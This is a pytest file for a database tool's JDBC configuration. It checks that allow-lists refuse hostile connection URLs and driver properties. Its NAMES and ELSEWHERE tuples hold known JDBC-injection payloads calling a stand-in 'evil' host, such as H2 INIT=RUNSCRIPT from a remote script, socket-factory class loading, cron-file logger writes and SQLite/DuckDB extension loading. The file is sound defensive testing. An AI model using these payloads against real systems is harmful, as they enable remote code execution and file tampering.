"""Hostile JDBC URLs and properties are refused by allow-lists, before a driver is loaded."""

from __future__ import annotations

import itertools

import pytest

from qbcd.catalog.jdbc_sources import jdbc_source
from qbcd.config import config_from_dict
from qbcd.config.databases import BY_DRIVER
from qbcd.config.jdbc_source import JdbcDriverConfig, JdbcSourceConfig
from qbcd.config.masking import Masking
from qbcd.connectors.jdbc.profiles import PROFILES
from qbcd.connectors.jdbc.urls import checked_properties, checked_url
from qbcd.errors import ConfigError

GOOD = {
    "h2": ("jdbc:h2:file:/data/shop", "jdbc:h2:~/shop", "jdbc:h2:tcp://db:9092/shop", "jdbc:h2:mem:shop"),
    "hsqldb": ("jdbc:hsqldb:file:/data/shop", "jdbc:hsqldb:hsql://db:9001/shop", "jdbc:hsqldb:mem:shop"),
    "derby": ("jdbc:derby:/data/shop", "jdbc:derby:directory:shop", "jdbc:derby:memory:shop"),
    "sqlite": ("jdbc:sqlite:/data/shop.db", "jdbc:sqlite:shop.db?busy_timeout=5000"),
    "duckdb": ("jdbc:duckdb:/data/shop.db", "jdbc:duckdb:/data/shop.db;threads=2"),
    "firebird": ("jdbc:firebirdsql://db:3050/data/shop.fdb",),
    "firebird4": ("jdbc:firebirdsql://db:3050/data/shop.fdb",),
    "oracle": ("jdbc:oracle:thin:@//db:1521/shop", "jdbc:oracle:thin:@tcps://db:2484/shop.example.com"),
    "sqlserver": ("jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true",),
    "db2": ("jdbc:db2://db:50000/SHOP:sslConnection=true;",),
    "hana": ("jdbc:sap://db:39015/?databaseName=shop&encrypt=true",),
    "snowflake": ("jdbc:snowflake://a1.snowflakecomputing.com/?db=SHOP&warehouse=W",),
    "bigquery": ("jdbc:bigquery://https://www.googleapis.com/bigquery/v2:443;ProjectId=shop;OAuthType=3",),
    "redshift": ("jdbc:redshift://c.example.com:5439/shop?ssl=true",),
    "databricks": ("jdbc:databricks://w.example.com:443/default;httpPath=/sql/1.0/x;ssl=1",),
    "teradata": ("jdbc:teradata://db/DATABASE=shop,TMODE=ANSI",),
    "clickhouse": ("jdbc:clickhouse://db:8443/shop?ssl=true",),
    "trino": ("jdbc:trino://db:8443/hive/shop?SSL=true",),
}
NAMES = (
    "INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
    "init=CREATE ALIAS X AS 'void x(){}'",
    "TRACE_LEVEL_SYSTEM_OUT=3",
    "IFEXISTS=FALSE",
    "socketFactory=evil.Factory",
    "socketFactoryArg=http://evil/x.xml",
    "sslfactory=evil.Factory",
    "loggerFile=/etc/cron.d/x",
    "autoDeserialize=true",
    "allowLoadLocalInfile=true",
    "user=sa",
    "password=x",
)
ELSEWHERE = (
    "jdbc:h2:zip:~/evil.zip!/shop",
    "jdbc:h2:mem:x\\;INIT=SELECT 1",
    "jdbc:h2:mem:x;INIT=SELECT 1\\;SELECT 2",
    "jdbc:h2:classpath:evil",
    "jdbc:h2:file:/x;;INIT=SELECT 1",
    "jdbc:hsqldb:res:evil",
    "jdbc:derby:jar:(/evil.jar)shop",
    "jdbc:derby:classpath:evil",
    "jdbc:derby:/x;createFrom=/evil",
    "jdbc:derby:/x;startMaster=true;slaveHost=evil",
    "jdbc:derby://evil:1527/x",
    "jdbc:sqlite::resource:http://evil/x.db",
    "jdbc:sqlite:file:x?vfs=evil",
    "jdbc:sqlite:x?enable_load_extension=true",
    "jdbc:duckdb:/x;allow_unsigned_extensions=true",
    "jdbc:duckdb:/x;session_init_sql_file=/evil.sql",
    "jdbc:duckdb:http://evil/x.db",
    "jdbc:oracle:oci:@evil",
    "jdbc:oracle:thin:scott/tiger@//db:1521/x",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)))",
    "jdbc:oracle:thin:@ldap://evil:389/x",
    "jdbc:oracle:thin:@//db:1521/x?TNS_ADMIN=/evil",
    "jdbc:sqlserver://db;socketFactoryClass=evil.X",
    "jdbc:sqlserver://db;databaseName={x;INIT=1}",
    "jdbc:db2://db/x:clientRerouteServerListJNDIName=ldap://evil/x;",
    "jdbc:snowflake://evil.example.com/?db=x",
    "jdbc:bigquery://https://evil.example.com/x;ProjectId=x",
    "jdbc:firebirdsql:embedded:/x",
)


def _hostile() -> list[tuple[str, str]]:
    """Return (profile, URL): each good URL with each hostile parameter, and forms of their own."""
    found = []
    for name, urls in GOOD.items():
        form = PROFILES[name].url
        for parameter, url in itertools.product(NAMES, urls[:1]):
            has_some = "=" in url
            found.append((name, f"{url.rstrip(';')}{form.between if has_some else form.first}{parameter}"))
    for url in ELSEWHERE:
        fitting = [one for one in PROFILES.values() if url.startswith(one.url.prefix)]
        found.append((fitting[0].name if fitting else "oracle", url))
    return found


@pytest.mark.parametrize(("name", "url"), [(name, url) for name, urls in GOOD.items() for url in urls])
def test_usual_urls_are_accepted(name: str, url: str) -> None:
    assert checked_url(PROFILES[name], url).startswith(url.rstrip(";"))


def test_two_hundred_hostile_urls_are_refused_and_not_repeated() -> None:
    hostile = _hostile()
    assert len(hostile) >= 200
    for name, url in hostile:
        with pytest.raises(ConfigError) as caught:
            jdbc_source("shop", JdbcSourceConfig.model_validate({"url": url, "dialect": name}), Masking(()), "")
        assert "evil" not in str(caught.value)


@pytest.mark.parametrize("name", sorted(PROFILES))
def test_properties_that_load_code_are_refused(name: str) -> None:
    for key in ("init", "socketFactory", "javax.net.ssl.trustStore", "loggerFile", "session_init_sql_file"):
        with pytest.raises(ConfigError, match="not allowed"):
            checked_properties(PROFILES[name], {key: "x"})


@pytest.mark.parametrize("url", ["jdbc:postgresql://db/x", "jdbc:mysql://db/x", "jdbc:mariadb://db/x"])
def test_databases_with_a_connector_are_refused_with_their_own_url(url: str) -> None:
    with pytest.raises(ValueError, match="has a connector of its own"):
        JdbcSourceConfig.model_validate({"url": url})


def test_maven_coordinates_need_a_checksum() -> None:
    with pytest.raises(ValueError, match="sha256"):
        JdbcDriverConfig.model_validate({"maven": "a:b:1"})


@pytest.mark.parametrize(
    ("key", "said"),
    [
        ("driver", "the dialect knows the driver's class; write jdbc: {driver_jar: driver.jar}"),
        ("driver_jar", "write it under `jdbc`: jdbc: {driver_jar: ..}"),
        ("fetchsize", "write it under `jdbc`"),
    ],
)
def test_a_key_of_the_driver_at_the_source_has_a_hint(key: str, said: str) -> None:
    sources = {"shop": {"url": "jdbc:h2:/data/shop", key: "x"}}
    entry = {"source": "shop", "table": "PUBLIC.T", "strategy": "id_rcs"}
    with pytest.raises(ConfigError) as caught:
        config_from_dict({"version": 1, "sources": sources, "tables": [entry]})
    assert said in caught.value.remedy


def test_each_profile_is_named_where_a_url_of_a_connector_is_expected() -> None:
    known = {f"jdbc:{other or name}:" for name, other in BY_DRIVER.items()}
    assert known == {":".join(one.url.prefix.split(":")[:2]) + ":" for one in PROFILES.values()}
    entry = {"source": "shop", "table": "main.t", "strategy": "id_rcs"}
    with pytest.raises(ConfigError, match=r"or write jdbc:firebirdsql:\.\.,"):
        config_from_dict({"version": 1, "sources": {"shop": {"url": "firebird://h/d"}}, "tables": [entry]})


def test_spark_is_needed_whatever_engine_is_requested() -> None:
    sources = {"shop": {"url": "jdbc:duckdb:/data/shop.db"}}
    entry = {"source": "shop", "table": "main.t", "strategy": "id_rcs"}
    data = {"version": 1, "sources": sources, "tables": [entry], "defaults": {"engine": "local"}}
    assert config_from_dict(data).engines == {"spark"}
